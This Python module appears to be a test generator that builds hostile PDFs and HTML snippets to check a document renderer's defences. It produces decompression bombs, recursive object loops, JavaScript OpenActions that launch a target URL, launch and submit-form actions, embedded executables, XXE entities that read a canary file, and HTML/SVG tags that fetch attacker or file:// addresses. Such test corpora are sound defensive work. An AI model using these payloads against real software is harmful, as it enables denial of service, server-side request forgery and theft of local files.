"""PDFs and written texts of an attacker, from a seed.

Each is ``Paper(kind, data)``. They lead to ``address`` and to the file ``canary``, which
nobody may ask for anything or open.
"""

import io
import itertools
import random
import zlib
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import pikepdf

FONTS = Path(__file__).parents[2] / "static" / "vendor" / "print"
MEGABYTE = 1024 * 1024


@dataclass(frozen=True)
class Paper:
    """A PDF (bytes) or the HTML of a written text (str)."""

    kind: str
    data: bytes | str

    @property
    def is_pdf(self):
        return isinstance(self.data, bytes)


@dataclass(frozen=True)
class Target:
    """What an attacker would like to reach."""

    address: str
    canary: str


def papers(seed, count, target):
    """``count`` papers: each kind in turn, made anew each time it comes.

    The kinds that end the process which opens them come once, in a few papers.
    """
    rng = random.Random(seed)
    kinds = [*PDF_KINDS, *TEXT_KINDS]
    rng.shuffle(kinds)
    again = [kind for kind in kinds if kind not in COSTLY or count > 100]
    order = itertools.chain(kinds, itertools.cycle(again))
    for make in itertools.islice(order, count):
        yield Paper(make.__name__, make(rng, target))


# -- PDFs, written out by hand ---------------------------------------------------------
def written(objects, trailer=b""):
    """A PDF of numbered objects, the first its catalogue."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = {}
    for number, body in sorted(objects.items()):
        places[number] = out.tell()
        out.write(b"%d 0 obj\n%b\nendobj\n" % (number, body))
    start, size = out.tell(), max(objects) + 1
    out.write(b"xref\n0 %d\n" % size)
    out.write(b"0000000000 65535 f \n")
    for number in range(1, size):
        kept = b"%010d 00000 n \n" % places[number] if number in places else None
        out.write(kept or b"0000000000 65535 f \n")
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %b >>\n" % (size, trailer))
    out.write(b"startxref\n%d\n%%%%EOF\n" % start)
    return out.getvalue()


def stream(data, entries=b"", *, packed=True):
    if packed:
        data, entries = zlib.compress(data), entries + b" /Filter /FlateDecode"
    return b"<< %b /Length %d >>\nstream\n%b\nendstream" % (entries, len(data), data)


def one_page(
    content=b"BT /F1 12 Tf 72 720 Td (Harmless) Tj ET",
    *,
    resources=b"",
    page=b"",
    catalog=b"",
    box=b"[0 0 595 842]",
    more=None,
    stream_of=stream,
):
    """A PDF of one page in Helvetica, which is not embedded; its own objects from 10."""
    return written(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R %b >>" % catalog,
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox %b /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> %b >> %b >>" % (box, resources, page),
            4: stream_of(content),
            5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        }
        | (more or {})
    )


def bomb_in_content(rng, target):
    size = rng.choice([64, 300, 900]) * MEGABYTE
    return one_page(stream_of=lambda _data: bomb(size))


@cache
def bomb(size):
    """A stream of ``size`` spaces, a whole number of megabytes."""
    press = zlib.compressobj(9, zlib.DEFLATED, -15)
    part = press.compress(b" " * MEGABYTE) + press.flush(zlib.Z_FULL_FLUSH)
    data = b"\x78\xda" + part * (size // MEGABYTE) + b"\x03\x00"
    check = 1
    for _each in range(size // MEGABYTE):
        check = zlib.adler32(b" " * MEGABYTE, check)
    data += check.to_bytes(4, "big")
    entries = b"<< /Length %d /Filter /FlateDecode >>" % len(data)
    return b"%b\nstream\n%b\nendstream" % (entries, data)


def bomb_in_bombs(rng, target):
    data = b" " * (30 * MEGABYTE)
    for _layer in range(rng.choice([2, 4, 30])):
        data = zlib.compress(data, 9)
    filters = b" ".join([b"/FlateDecode"] * 30)
    return one_page(
        stream_of=lambda _data: stream(data, b"/Filter [%b]" % filters, packed=False)
    )


def large_picture(rng, target):
    side = rng.choice([7000, 20000, 100000])
    picture = bomb(300 * MEGABYTE).replace(
        b"<<",
        b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent 8 "
        b"/ColorSpace /DeviceGray" % (side, side),
        1,
    )
    return one_page(
        b"q 500 0 0 500 0 0 cm /Im Do Q",
        resources=b"/XObject << /Im 10 0 R >>",
        more={10: picture},
    )


def deep_page_tree(rng, target):
    depth = rng.choice([60, 600, 5000])
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2 + depth: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>"
        % (1 + depth),
    }
    for level in range(depth):
        parent = b"/Parent %d 0 R" % (1 + level) if level else b""
        objects[2 + level] = b"<< /Type /Pages %b /Kids [%d 0 R] /Count 1 >>" % (
            parent,
            3 + level,
        )
    return written(objects)


def loop_in_page_tree(rng, target):
    kids = rng.choice([b"2 0 R", b"3 0 R 2 0 R", b"3 0 R 3 0 R 3 0 R", b"1 0 R"])
    count = rng.choice([b"1", b"-1", b"99999999", b"2 0 R"])
    return written(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [%b] /Count %b /Parent 2 0 R >>" % (kids, count),
            3: b"<< /Type /Page /Parent 3 0 R /MediaBox 3 0 R >>",
        }
    )


def loop_of_forms(rng, target):
    length = rng.randint(1, 5)
    forms = {
        10 + each: stream(
            b"/F Do /F Do",
            b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject "
            b"<< /F %d 0 R >> >>" % (10 + (each + 1) % length),
        )
        for each in range(length)
    }
    return one_page(b"/F Do", resources=b"/XObject << /F 10 0 R >>", more=forms)


def many_forms_in_forms(rng, target):
    """Ten draw ten that draw ten: a thousand million at the end."""
    forms = {
        10 + each: stream(
            b"/F Do " * 10,
            b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject "
            b"<< /F %d 0 R >> >>" % (11 + each),
        )
        for each in range(9)
    }
    forms[19] = stream(
        b"0 0 5 5 re f",
        b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << >>",
    )
    return one_page(b"/F Do", resources=b"/XObject << /F 10 0 R >>", more=forms)


def loop_of_resources(rng, target):
    kind = rng.choice([b"/Font", b"/ColorSpace", b"/Pattern", b"/ExtGState"])
    return one_page(
        b"/P cs /X scn /G gs BT /T 12 Tf (a) Tj ET",
        resources=b"%b << /P 10 0 R /X 11 0 R /G 12 0 R /T 13 0 R >>" % kind,
        more={
            10: b"[/Indexed 10 0 R 1 10 0 R]",
            11: stream(
                b"/P cs /X scn 0 0 9 9 re f",
                b"/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep "
                b"0.000001 /YStep 0.000001 /Resources << /Pattern << /X 11 0 R >> >>",
            ),
            12: b"<< /SMask << /S /Alpha /G 11 0 R >> /Font [13 0 R 12] >>",
            13: b"<< /Type /Font /Subtype /Type3 /FontMatrix [1 0 0 1 0 0] /FontBBox "
            b"[0 0 1 1] /FirstChar 97 /LastChar 97 /Widths [1] /Encoding << /Differences"
            b" [97 /a] >> /CharProcs << /a 14 0 R >> /Resources << /Font << /T 13 0 R >>"
            b" >> >>",
            14: stream(b"1 0 d0 BT /T 1 Tf (a) Tj ET"),
        },
    )


def many_operators(rng, target):
    count = rng.choice([100_000, 400_000])
    step = b"%d %d m %d %d l S\n"
    return one_page(
        b"".join(
            step % tuple(rng.randrange(600) for _side in range(4))
            for _each in range(1000)
        )
        * (count // 2000)
    )


def script(rng, target):
    run = b"app.launchURL('%b'); while(1);" % target.address.encode()
    action = b"<< /S /JavaScript /JS (%b) >>" % run
    return one_page(
        catalog=b"/OpenAction %b /AA << /WC %b >> /Names << /JavaScript << /Names "
        b"[(a) %b] >> >>" % (action, action, action),
        page=b"/AA << /O %b >>" % action,
    )


def script_in_form(rng, target):
    """A field that computes itself, and is drawn."""
    return one_page(
        catalog=b"/AcroForm << /Fields [10 0 R] /NeedAppearances true /CO [10 0 R] /XFA "
        b"(<xdp:xdp/>) >>",
        page=b"/Annots [10 0 R]",
        more={
            10: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [0 0 99 "
            b"99] /DA (/Helv 0 Tf 0 g) /AA << /C << /S /JavaScript /JS (while(1);) >> >> "
            b"/MK << /BG [1 0 0] >> /Kids [10 0 R] /Parent 10 0 R /AP << /N 11 0 R >> >>",
            11: stream(
                b"/X Do",
                b"/Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 11 0 R >> "
                b">>",
            ),
        },
    )


def action(rng, target):
    kind = rng.choice(
        [
            b"/S /Launch /F (%b)" % target.canary.encode(),
            b"/S /URI /URI (%b)" % target.address.encode(),
            b"/S /SubmitForm /F << /FS /URL /F (%b) >>" % target.address.encode(),
            b"/S /GoToR /D [0 /Fit] /F (%b)" % target.canary.encode(),
            b"/S /ImportData /F (%b)" % target.canary.encode(),
        ]
    )
    return one_page(
        catalog=b"/OpenAction << %b >>" % kind,
        page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << %b >> "
        b">>]" % kind,
    )


def file_outside(rng, target):
    """Streams, pictures and pages whose bytes are said to be in another file."""
    place = rng.choice([target.address, target.canary, f"file://{target.canary}"])
    place = place.encode()
    return one_page(
        b"q 500 0 0 500 0 0 cm /Im Do Q /Fm Do",
        resources=b"/XObject << /Im 10 0 R /Fm 11 0 R >>",
        more={
            10: b"<< /Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent "
            b"8 /ColorSpace /DeviceGray /F << /FS /URL /F (%b) >> /FFilter /DCTDecode "
            b"/Length 0 /OPI << /2.0 << /F (%b) >> >> >>\nstream\n\nendstream"
            % (place, place),
            11: stream(
                b"",
                b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (%b) /Page 0 "
                b">>" % place,
            ),
        },
    )


def file_inside(rng, target):
    return one_page(
        catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 10 0 R] >> >> /AF [10 0 R]",
        page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 10 0"
        b" R >>]",
        more={
            10: b"<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>",
            11: stream(b"MZ" * 99, b"/Type /EmbeddedFile"),
        },
    )


def odd_box(rng, target):
    box = rng.choice(
        [
            *(b"[0 0 1000000000 1000000000]", b"[0 0 0 0]", b"[595 842 0 0]"),
            *(b"[-1e30 -1e30 1e30 1e30]", b"[0 0 0.001 842]", b"[0 0 14401 9]"),
            *(b"[0 0 (a) /b]", b"[0 0]", b"null", b"[0 0 99999 0.1]"),
        ]
    )
    turn = rng.choice([0, 90, 45, -270, 99999999999])
    unit = rng.choice([b"1", b"0", b"-1", b"1000000", b"0.0000001"])
    return one_page(box=box, page=b"/Rotate %d /UserUnit %b" % (turn, unit))


def broken_directory(rng, target):
    data = one_page()
    start = data.rindex(b"startxref")
    return rng.choice(
        [
            data[: rng.randrange(9, len(data))],
            data[:start] + b"startxref\n%d\n%%%%EOF" % rng.randrange(2**40),
            data.replace(b"/Size 6", b"/Size 6 /Prev %d" % data.rindex(b"xref\n0")),
            data.replace(b"/Size 6", b"/Size 999999999"),
            data.replace(b"0000000000 65535 f \n", b"9999999999 00000 n \n"),
            data.replace(b"/Length", b"/Length 4 0 R /L"),
            data.replace(b"/Root 1 0 R", b"/Root 4 0 R"),
        ]
    )


def odd_names(rng, target):
    name = rng.choice([b"/a#00b", b"/" + b"x" * 100_000, b"/#ff#fe", b"/", b"/../../x"])
    return one_page(
        b"%b gs BT %b 12 Tf 99 99 Td (a) Tj ET" % (name, name),
        resources=b"/ExtGState << %b << /CA 0.5 >> >>" % name,
        catalog=b"%b (x)" % name,
    )


def odd_numbers(rng, target):
    number = rng.choice(
        [
            b"1e400",
            b"99999999999999999999",
            b"-0.00000000000000000001",
            b"--5",
            b"1.2.3",
        ]
    )
    return one_page(
        b"q %b 0 0 %b 0 0 cm BT /F1 %b Tf %b %b Td (a) Tj ET 0 0 %b 9 re f"
        % ((number,) * 6)
    )


def harmed_font(rng, target):
    """A face of ours with some bytes changed, or cut off."""
    data = bytearray((FONTS / "NotoSans-Regular.ttf").read_bytes())
    for _each in range(rng.choice([5, 500, 50_000])):
        data[rng.randrange(4, len(data))] = rng.randrange(256)
    del data[rng.choice([100, 5000, len(data)]) :]
    cmap = rng.choice(
        [
            b"1 beginbfrange <0000> <ffff> <d800> endbfrange",
            b"1 beginbfrange <0000> <ffffffffffff> <0041> endbfrange",
            b"1 beginbfchar <0024> <> endbfchar",
        ]
    )
    return one_page(
        b"BT /F 12 Tf 72 720 Td <0024002500260027> Tj ET",
        resources=b"/Font << /F 10 0 R >>",
        more={
            10: b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H "
            b"/DescendantFonts [11 0 R] /ToUnicode 14 0 R >>",
            11: b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /CIDSystemInfo << "
            b"/Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /FontDescriptor 12 "
            b"0 R /CIDToGIDMap /Identity /DW 600 /W [0 65535 600 0 9999999999 1] >>",
            12: b"<< /Type /FontDescriptor /FontName /A /Flags 4 /FontBBox [0 0 9 9] "
            b"/ItalicAngle 0 /Ascent 9 /Descent 0 /CapHeight 9 /StemV 9 /FontFile2 13 0 R"
            b" >>",
            13: stream(bytes(data)),
            14: stream(cmap),
        },
    )


def harmed_small_font(rng, target):
    """Type 1 or compact fonts that are none."""
    key, entry, data = rng.choice(
        [
            (b"/FontFile", b"", b"%!PS-AdobeFont-1.0\n/a {a} def a currentfile eexec"),
            (b"/FontFile", b"", b"%!" + rng.randbytes(5000)),
            (b"/FontFile3", b"/Subtype /Type1C", b"\1\0\4\4" + rng.randbytes(5000)),
            (b"/FontFile3", b"/Subtype /Type1C", b"\1\0\4\1" + b"\0\1\1\1\2a" * 900),
            (b"/FontFile3", b"/Subtype /OpenType", b"OTTO" + rng.randbytes(900)),
        ]
    )
    return one_page(
        b"BT /F 12 Tf 72 720 Td (abc) Tj ET",
        resources=b"/Font << /F 10 0 R >>",
        more={
            10: b"<< /Type /Font /Subtype /Type1 /BaseFont /A /FirstChar 97 /LastChar 99 "
            b"/Widths [500 500 500] /FontDescriptor 11 0 R >>",
            11: b"<< /Type /FontDescriptor /FontName /A /Flags 4 /FontBBox [0 0 9 9] "
            b"/ItalicAngle 0 /Ascent 9 /Descent 0 /CapHeight 9 /StemV 9 %b 12 0 R >>"
            % key,
            12: stream(data, entry),
        },
    )


def locked(rng, target):
    with pikepdf.open(io.BytesIO(one_page())) as pdf:
        output = io.BytesIO()
        user = rng.choice(["", "secret"])
        pdf.save(output, encryption=pikepdf.Encryption(owner="owner", user=user))
    return output.getvalue()


def hidden_layer(rng, target):
    return one_page(
        b"/OC /L BDC BT /F1 40 Tf 72 400 Td (Hidden layer) Tj ET EMC BT /F1 12 Tf 72 700 "
        b"Td (Shown) Tj ET",
        resources=b"/Properties << /L 10 0 R >>",
        catalog=b"/OCProperties << /OCGs [10 0 R] /D << /OFF [10 0 R] >> >>",
        more={10: b"<< /Type /OCG /Name (L) >>"},
    )


def odd_colours(rng, target):
    colour = rng.choice(
        [
            b"/DeviceCMYK",
            b"[/Separation /Gold /DeviceCMYK 11 0 R]",
            b"[/DeviceN [/a /b /c] /DeviceRGB 11 0 R]",
            b"[/ICCBased 12 0 R]",
            b"[/Indexed /DeviceRGB 99999999 (a)]",
            b"[/Lab << /WhitePoint [0 0 0] >>]",
        ]
    )
    return one_page(
        b"/C cs 1 0 0 1 sc 0 0 500 500 re f 0 1 0 0 k 9 9 99 99 re f /S sh",
        resources=b"/ColorSpace << /C %b >> /Shading << /S 13 0 R >>" % colour,
        more={
            11: stream(
                b"{ dup 1 exch sub 0 0 9999 { dup mul } repeat }",
                b"/FunctionType 4 /Domain [0 1] /Range [0 1 0 1 0 1 0 1]",
            ),
            12: stream(rng.randbytes(500), b"/N %d" % rng.choice([0, 3, 4, 99])),
            13: b"<< /ShadingType 1 /ColorSpace /DeviceCMYK /Function 11 0 R >>",
        },
    )


def odd_picture(rng, target):
    kind = rng.choice([b"/JBIG2Decode", b"/JPXDecode", b"/DCTDecode", b"/LZWDecode"])
    return one_page(
        b"q 500 0 0 500 0 0 cm /Im Do Q",
        resources=b"/XObject << /Im 10 0 R >>",
        more={
            10: stream(
                b"\xff\xd8\xff" + rng.randbytes(3000),
                b"/Type /XObject /Subtype /Image /Width 6000 /Height 6000 "
                b"/BitsPerComponent %d /ColorSpace /DeviceRGB /SMask 10 0 R /Filter %b"
                % (rng.choice([1, 8, 99]), kind),
                packed=False,
            )
        },
    )


def entities_in_metadata(rng, target):
    lines = b"".join(
        b'<!ENTITY e%d "%b">' % (level, b"&e%d;" % (level - 1) * 10)
        for level in range(1, 10)
    )
    xml = (
        b'<!DOCTYPE x [<!ENTITY e0 "a">%b<!ENTITY f SYSTEM "file://%b"><!ENTITY u SYSTEM '
        b'"%b">]><x>&e9;&f;&u;</x>'
        % (lines, target.canary.encode(), target.address.encode())
    )
    return one_page(
        catalog=b"/Metadata 10 0 R",
        more={10: stream(xml, b"/Type /Metadata /Subtype /XML", packed=False)},
    )


def loops_all_over(rng, target):
    return one_page(
        catalog=b"/Outlines 10 0 R /StructTreeRoot 11 0 R /Names << /Dests 12 0 R >> "
        b"/MarkInfo << /Marked true >> /PageLabels 13 0 R",
        more={
            10: b"<< /First 10 0 R /Last 10 0 R /Next 10 0 R /Parent 10 0 R /Count 9999 "
            b">>",
            11: b"<< /Type /StructTreeRoot /K [11 0 R 11 0 R] /ParentTree 13 0 R >>",
            12: b"<< /Kids [12 0 R 12 0 R] /Limits [(a) (z)] >>",
            13: b"<< /Kids [13 0 R] /Nums [0 13 0 R] >>",
        },
    )


def deep_arrays(rng, target):
    depth = rng.choice([90, 2000, 400_000])
    return one_page(catalog=b"/Deep " + b"[" * depth + b"]" * depth)


def deep_arrays_in_content(rng, target):
    depth = rng.choice([400, 100_000])
    return one_page(b"[" * depth + b"]" * depth + b" TJ " + b"q " * depth)


def many_pages(rng, target):
    count = rng.choice([601, 5000])
    return written(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Count %d /Kids [%b] /MediaBox [0 0 9 9] >>"
            % (count, b" ".join(b"%d 0 R" % (3 + each) for each in range(count))),
        }
        | {3 + each: b"<< /Type /Page /Parent 2 0 R >>" for each in range(count)}
    )


def flipped_bytes(rng, target):
    data = bytearray(rng.choice(PDF_KINDS[:-2])(rng, target)[: 2 * MEGABYTE])
    for _each in range(rng.choice([1, 10, 100])):
        data[rng.randrange(9, len(data))] = rng.randrange(256)
    return bytes(data)


def noise(rng, target):
    return b"%PDF-1.4\n" + rng.randbytes(rng.randrange(10, 9000))


PDF_KINDS = [
    *(bomb_in_content, bomb_in_bombs, large_picture, deep_page_tree, loop_in_page_tree),
    *(loop_of_forms, many_forms_in_forms, loop_of_resources, many_operators, script),
    *(script_in_form, action, file_outside, file_inside, odd_box, broken_directory),
    *(odd_names, odd_numbers, harmed_font, harmed_small_font, locked, hidden_layer),
    *(odd_colours, odd_picture, entities_in_metadata, loops_all_over, deep_arrays),
    *(deep_arrays_in_content, many_pages, flipped_bytes, noise),
]


COSTLY = [bomb_in_content, loop_of_forms, many_forms_in_forms, loop_of_resources]
COSTLY += [many_operators, large_picture]


# -- Written texts ----------------------------------------------------------------------
def address_in_style(rng, target):
    where = rng.choice([target.address, f"file://{target.canary}", target.canary])
    return rng.choice(
        [
            f"<p style=\"background: url('{where}')\">a</p>",
            f"<style>@import '{where}';</style><p>a</p>",
            f"<style>@font-face{{font-family:x;src:url({where})}}p{{font:9pt x}}</style>a",
            f"<p style='content: url({where}); list-style: url({where})'>a</p>",
            f"<link rel=stylesheet href='{where}'><p>a</p>",
            f"<p style='width: expression(open(\"{where}\"))'>a</p>",
        ]
    )


def address_in_tag(rng, target):
    where = rng.choice(
        [
            *(target.address, f"file://{target.canary}", "data:text/html,<script>"),
            *("//127.0.0.1/a", "asset:../settings/base.py", "\\\\127.0.0.1\\a"),
        ]
    )
    return rng.choice(
        [
            f"<img src='{where}' srcset='{where} 2x'>a",
            f"<object data='{where}'>a</object><embed src='{where}'>",
            f"<iframe src='{where}'></iframe>a",
            f"<base href='{where}'><img src=a>a",
            f"<meta http-equiv=refresh content='0; url={where}'>a",
            f"<a rel=attachment href='{where}'>a</a>",
            f"<link rel=attachment href='{where}'>a",
            f"<input type=image src='{where}'><video poster='{where}'></video>a",
            f"<table background='{where}'><tr><td>a</table>",
            f"<bdo dir=rtl><img src='{where}'></bdo>a",
        ]
    )


def drawing_in_text(rng, target):
    where = rng.choice([target.address, f"file://{target.canary}"])
    return rng.choice(
        [
            f"<svg width=9 height=9><image href='{where}' width=9 height=9 /></svg>a",
            f"<svg><use href='{where}#a'/></svg>a",
            f"<svg><style>@import '{where}'</style></svg>a",
            f"<!DOCTYPE x [<!ENTITY a SYSTEM '{where}'>]><svg><text>&a;</text></svg>a",
            "<svg>" + "<g>" * 2000 + "</svg>a",
            f"<math><annotation-xml><img src='{where}'></annotation-xml></math>a",
        ]
    )


def large_picture_in_text(rng, target):
    head = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x20\0\0\0\x20\0\x08\2\0\0\0"
    return f"<img src='data:image/png;base64,{head.hex() * 99}'>a"


def large_table(rng, target):
    rows = rng.choice([50, 300, 5000])
    return "<table>" + "<tr><td>a<td>b<td>c" * rows + "</table>"


def deep_lists(rng, target):
    depth = rng.choice([19, 200, 1000])
    return "<ul><li>a" * depth + "</li></ul>" * depth


def deep_marks(rng, target):
    return (
        rng.choice(["<b>", "<blockquote>", "<p><em>", "<table><tr><td>"]) * 1000 + "a"
    )


def long_word(rng, target):
    letter = rng.choice(["a", "W", "\u00ad", "ﷺ"])
    return f"<p>{letter * 20_000}</p>"


def odd_characters(rng, target):
    kinds = [
        *("\u202e\u2066\u2067\u2069\u200f", "\u200b\u200c\u200d\u2060\ufeff"),
        *("😀🏳️‍🌈👩‍👩‍👧‍👦𝕬𠀀", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L" * 30, "\ue000\uf8ff\U000f0000"),
        *("\ufffe\uffff\U0010ffff", "\x01\x08\x0b\x1b\x7f\x85", "ﷺ﷽𒐫⸻"),
        *("مرحبا שלום नमस्ते 你好 สวัสดี", "&#0;&#x1F;&#xD800;&#x110000;&#128;"),
    ]
    return f"<p>{''.join(rng.sample(kinds, 4)) * 20}</p>"


def unclosed(rng, target):
    return rng.choice(
        [
            *(
                "<!--",
                "<![CDATA[",
                "<p title='",
                "<table><p>",
                "</section></body></html>",
            ),
            *("</p></div></section><h1 id=contents>a", "<plaintext>a", "<template>a"),
            "<p id=verify class=item__end>a<a href='#item-1'>b</a>",
        ]
    )


def many_links(rng, target):
    return f"<p>{f'<a href={target.address}>a</a> ' * rng.choice([10, 400, 2000])}</p>"


TEXT_KINDS = [
    *(address_in_style, address_in_tag, drawing_in_text, large_picture_in_text),
    *(large_table, deep_lists, deep_marks, long_word, odd_characters, unclosed),
    many_links,
]
